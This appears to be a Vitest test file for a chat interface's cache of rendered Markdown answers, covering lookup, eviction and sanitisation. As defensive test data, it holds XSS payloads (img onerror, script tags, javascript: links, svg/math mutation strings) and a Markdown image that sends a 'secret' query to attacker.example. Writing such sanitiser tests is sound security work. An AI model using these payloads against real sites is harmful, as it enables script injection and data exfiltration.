// @vitest-environment jsdom
import hljs from 'highlight.js/lib/core';
import { act } from 'react';
import type { Root } from 'react-dom/client';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { markdownElement, markdownHtml, parsedHtml } from './markdown-html';
import { reactRootPerTest } from '../react-root-per-test';
import { AnswerMarkdown } from '@/components/chat/AnswerMarkdown';
import { answerNodes, RenderedAnswers, renderedAnswers } from '@/components/chat/rendered-answers';

(globalThis as unknown as { IS_REACT_ACT_ENVIRONMENT: boolean }).IS_REACT_ACT_ENVIRONMENT = true;

/** An element holding `html`, as Markdown's `div.markdown` holds its rendered blocks. */
function rendered(html: string): Element {
  const div = document.createElement('div');
  div.innerHTML = html;
  return div;
}
/** A copy's HTML (the cache keeps HTML). */
const htmlOf = (html: string | undefined) => html;

describe('RenderedAnswers (the windowed log’s copies of finished answers)', () => {
  it('finds a copy only for the same id and exactly the same text', () => {
    const cache = new RenderedAnswers(1_000);
    cache.keep('a1', 'Hello **there**', rendered('<p>Hello <strong>there</strong></p>'));
    expect(htmlOf(cache.get('a1', 'Hello **there**'))).toBe('<p>Hello <strong>there</strong></p>');
    // An edited or regenerated answer with the same id, and another message with the same text.
    expect(cache.get('a1', 'Hello **there**!')).toBeUndefined();
    expect(cache.get('a1', 'Hello')).toBeUndefined();
    expect(cache.get('a2', 'Hello **there**')).toBeUndefined();
  });

  it('keeps one copy per id: the new text’s replaces the old', () => {
    const cache = new RenderedAnswers(1_000);
    cache.keep('a1', 'old', rendered('<p>old</p>'));
    cache.keep('a1', 'new', rendered('<p>new</p>'));
    expect(cache.get('a1', 'old')).toBeUndefined();
    expect(htmlOf(cache.get('a1', 'new'))).toBe('<p>new</p>');
    expect(cache.size).toBe(1);
  });

  it('copies the nodes when it stores them: the page changing them afterwards (a copy button saying “Copied”) changes no copy', () => {
    const cache = new RenderedAnswers(1_000);
    const shown = rendered('<div class="code-block"><button class="copy">Copy</button><pre><code>x</code></pre></div>');
    cache.keep('a1', 'x', shown);
    shown.querySelector('button')!.textContent = 'Copied';
    expect(htmlOf(cache.get('a1', 'x'))).toContain('>Copy<');
  });

  it('gives back, parsed from its HTML, the same nodes it was given: a raw `pre`’s leading newline included', () => {
    const cache = new RenderedAnswers(1_000);
    const shown = rendered('<pre>\n\nindented</pre><p>a &lt;b&gt; &amp; "c"</p><a href="https://e.example/?a=1&amp;b=&quot;2&quot;" title="x&quot; onclick=&quot;y">l</a>');
    expect((shown.firstChild!.firstChild as Text).data).toBe('\nindented');
    cache.keep('a1', 'x', shown);
    const again = document.createElement('div');
    again.append(answerNodes(cache.get('a1', 'x')!));
    expect(again.isEqualNode(shown)).toBe(true);
    expect(again.querySelector('a')!.getAttributeNames()).toEqual(['href', 'title']);
    // Read, not changed: the shown answer keeps its own text.
    expect((shown.firstChild!.firstChild as Text).data).toBe('\nindented');
    // A fragment (the idle fill's) whose text looks like markup: it stays text.
    const built = document.createDocumentFragment();
    built.append('<img src=x onerror=alert(1)> & \u00a0', rendered('<p>p</p>').firstChild!);
    cache.keep('a2', 'y', built);
    const parsed = answerNodes(cache.get('a2', 'y')!);
    expect(parsed.querySelector('img')).toBeNull();
    expect(parsed.textContent).toBe('<img src=x onerror=alert(1)> & \u00a0p');
    expect(built.childNodes).toHaveLength(2);
  });

  it('holds at most its characters of answers, the least recently used going first', () => {
    const cache = new RenderedAnswers(10);
    cache.keep('a', 'aaaa', rendered('<p>a</p>'));
    cache.keep('b', 'bbbb', rendered('<p>b</p>'));
    expect(cache.get('a', 'aaaa')).toBeDefined(); // a used again: b is now the oldest
    cache.keep('c', 'cccc', rendered('<p>c</p>'));
    expect(cache.get('b', 'bbbb')).toBeUndefined();
    expect(cache.get('a', 'aaaa')).toBeDefined();
    expect(cache.get('c', 'cccc')).toBeDefined();
    expect(cache.size).toBe(2);
    // An answer longer than the whole bound is not kept, and does not push the others out.
    cache.keep('d', 'd'.repeat(11), rendered('<p>d</p>'));
    expect(cache.get('d', 'd'.repeat(11))).toBeUndefined();
    expect(cache.size).toBe(2);
  });
});

let container: HTMLDivElement;
let root: Root;
reactRootPerTest((c, r) => {
  container = c;
  root = r;
});
afterEach(() => {
  vi.restoreAllMocks();
});

const ANSWER = 'Here is the fix:\n\n```ts\nconst answer = 42;\nexport default answer;\n```\n\nAnd **that** is all.';
const show = (id: string, text: string, done: boolean) => act(() => root.render(<AnswerMarkdown key={`${id}`} id={id} text={text} done={done} />));
const hide = () => act(() => root.render(<></>));

describe('AnswerMarkdown (an answer in a windowed log)', () => {
  it('mounted again, shows the same nodes as Markdown without highlighting (or parsing) the answer again', () => {
    const expected = markdownHtml(ANSWER);
    show('m1', ANSWER, true);
    expect(container.innerHTML).toBe(expected);
    const highlight = vi.spyOn(hljs, 'highlight');
    for (let i = 0; i < 2; i++) {
      hide();
      show('m1', ANSWER, true);
      expect(container.innerHTML).toBe(expected);
    }
    expect(highlight).not.toHaveBeenCalled();
  });

  it('never keeps a streaming answer: only the finished one is stored', () => {
    const partial = ANSWER.slice(0, 40);
    show('m2', partial, false);
    expect(renderedAnswers.get('m2', partial)).toBeUndefined();
    hide();
    const highlight = vi.spyOn(hljs, 'highlight');
    show('m2', partial, false);
    expect(highlight).toHaveBeenCalled();
    // The stream ends: the same mounted answer, now finished, is stored as it is shown.
    act(() => root.render(<AnswerMarkdown key="m2" id="m2" text={ANSWER} done={false} />));
    expect(renderedAnswers.get('m2', ANSWER)).toBeUndefined();
    act(() => root.render(<AnswerMarkdown key="m2" id="m2" text={ANSWER} done />));
    expect(parsedHtml(renderedAnswers.get('m2', ANSWER)!)).toBe(container.firstElementChild!.innerHTML);
  });

  it('shows an edited or regenerated answer’s new text, not the copy of its old one, and the new text sanitised', () => {
    show('m3', ANSWER, true);
    hide();
    const hostile = 'Now <img src="x" onerror="alert(1)"> and <script>alert(2)</script> **bold**';
    show('m3', hostile, true);
    expect(container.innerHTML).toBe(markdownHtml(hostile));
    expect(container.innerHTML).not.toContain('onerror');
    expect(container.innerHTML).not.toContain('<script');
    expect(container.textContent).not.toContain('const answer');
    hide();
    show('m3', hostile, true);
    expect(container.innerHTML).toBe(markdownHtml(hostile));
  });

  // The kept copy is HTML, parsed again at each mount: a trip that must give back exactly what
  // Markdown rendered, for hostile and oddly nested answers as for plain ones.
  it('mounted from its kept copy, an answer is node for node what Markdown renders', () => {
    const answers = [
      ANSWER,
      'Now <img src="x" onerror="alert(1)"> and <script>alert(2)</script> **bold** <b style="color:red" onclick="f()">b</b>',
      '![chart](https://attacker.example/c.png?q=secret) and [x](javascript:alert(1)) [t](https://e.example "a \\" b <i>")',
      '<pre>\n\n  raw pre</pre>\n\n<p>para <div>block in p</div></p>',
      '<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg> <math><mtext><table><mglyph><style><img src=x onerror=alert(2)>',
      '<table><tr><td>a<td>b</table>\n\n| h | i |\n| :- | -: |\n| `</code>` | &lt;/pre&gt; |',
      '- one\n  - two\n    1. three\n\n```\n</code></pre><img src=x onerror=alert(3)>\n```\n\n&lt;script&gt;alert(4)&lt;/script&gt;',
      '<p><strong>a<table><tr><td>c</td></tr></table>b</strong> c</p>\n\ncr&#13;here [t](https://e.example "x&#13;y")',
    ];
    answers.forEach((text, i) => {
      const expected = markdownElement(text);
      // Markdown's tree may hold adjacent text nodes (an image's stand-in beside the text around it),
      // which any parse merges: the same text, shown the same.
      expected.normalize();
      show(`rt-${i}`, text, true);
      hide();
      show(`rt-${i}`, text, true);
      expect(renderedAnswers.has(`rt-${i}`, text)).toBe(true);
      expect(container.firstElementChild!.isEqualNode(expected), text).toBe(true);
      // Text that looks like markup stays text: no element or attribute of it came back to life.
      expect(container.querySelector('img, script, svg, math, style, iframe, [onerror], [onclick], [style], a[href^="javascript"]')).toBeNull();
    });
  });

  it('a copied answer’s copy button copies its code', async () => {
    const writeText = vi.fn(async () => {});
    Object.defineProperty(navigator, 'clipboard', { value: { writeText }, configurable: true });
    show('m4', ANSWER, true);
    hide();
    show('m4', ANSWER, true);
    expect(renderedAnswers.get('m4', ANSWER)).toBeDefined();
    const button = container.querySelector<HTMLButtonElement>('button.copy')!;
    await act(async () => button.click());
    expect(writeText).toHaveBeenCalledWith('const answer = 42;\nexport default answer;');
    expect(button.textContent).not.toBe('Copy');
  });
});
